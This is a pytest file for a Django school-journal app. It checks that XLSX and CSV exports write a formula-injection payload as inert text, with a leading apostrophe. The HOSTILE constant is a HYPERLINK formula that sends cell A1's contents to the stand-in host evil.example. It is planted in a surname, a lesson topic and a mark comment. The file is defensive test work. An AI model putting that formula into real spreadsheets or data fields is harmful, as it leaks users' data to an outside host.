"""Spreadsheet formula injection: a surname, a lesson topic or a mark's comment such as
``=HYPERLINK(…)`` is written into every XLSX and CSV export as text (with OWASP's leading
apostrophe), never as a live formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from setka.journal.models import Lesson
from setka.journal.services import records
from setka.network.models import Person

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Жмите")'


@pytest.fixture
def hostile(world, jw):
    """A student whose surname is a formula (stored before names were checked), a lesson
    whose topic is one, and a mark with one as its comment, and a period mark."""
    student = jw.students[0]
    Person.objects.filter(pk=student.pk).update(surname=HOSTILE)
    student.refresh_from_db()
    lesson = jw.lessons(period=jw.q2).first()
    Lesson.objects.filter(pk=lesson.pk).update(topic=HOSTILE)
    teacher = world.users["teacher"]
    records.mark_create(actor=teacher, lesson=lesson, student=student, value=5, comment="+1")
    records.mark_create(actor=teacher, lesson=lesson, student=student, value=4, comment=HOSTILE)
    records.period_mark_set(actor=teacher, group=jw.klass, subject=jw.maths, student=student,
                            period=jw.q2, value=5)  # fmt: skip
    return jw


def assert_no_formula_in_xlsx(content: bytes) -> int:
    """Every cell holding the hostile text is text starting with the apostrophe; returns how
    many such cells there are."""
    book = load_workbook(io.BytesIO(content))
    found = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and "evil.example" in cell.value:
                    assert cell.value.startswith("'="), (sheet.title, cell.coordinate)
                    found += 1
    return found


def assert_no_formula_in_csv(response) -> int:
    text = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
    found = 0
    for row in csv.reader(io.StringIO(text), delimiter=";"):
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
            if "evil.example" in value:
                assert value.startswith("'=")
                found += 1
    return found


def test_journal_xlsx_writes_surnames_and_topics_as_text(hostile, client_for):
    url = reverse("journal:export_journal_xlsx", args=[hostile.klass.pk, hostile.q2.pk])

    response = client_for("teacher").get(url)

    assert response.status_code == 200
    # the surname on the title page and the marks sheets of maths and PE; the topic
    assert assert_no_formula_in_xlsx(response.content) == 4


def test_class_report_xlsx_writes_surnames_as_text(hostile, client_for):
    url = reverse("journal:export_class_report", args=[hostile.klass.pk])

    response = client_for("teacher").get(f"{url}?period={hostile.q2.pk}")

    assert response.status_code == 200
    assert assert_no_formula_in_xlsx(response.content) == 1


@pytest.mark.parametrize(("kind", "cells"), [("students", 1), ("marks", 3), ("period_marks", 1)])
def test_exchange_xlsx_exports_write_formulas_as_text(hostile, client_for, kind, cells):
    url = reverse("journal:import_export", args=[hostile.year.pk, kind, "xlsx"])

    response = client_for("director").get(url)

    assert response.status_code == 200
    assert assert_no_formula_in_xlsx(response.content) == cells


@pytest.mark.parametrize(("kind", "cells"), [("students", 1), ("marks", 3), ("period_marks", 1)])
def test_exchange_csv_exports_write_formulas_as_text(hostile, client_for, kind, cells):
    url = reverse("journal:import_export", args=[hostile.year.pk, kind, "csv"])

    response = client_for("director").get(url)

    assert response.status_code == 200
    assert assert_no_formula_in_csv(response) == cells


def test_exchange_csv_keeps_a_mark_comment_readable(hostile, client_for):
    url = reverse("journal:import_export", args=[hostile.year.pk, "marks", "csv"])

    text = b"".join(client_for("director").get(url).streaming_content).decode("utf-8")

    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert [row[-1] for row in rows[1:]] == ["'+1", "'" + HOSTILE]
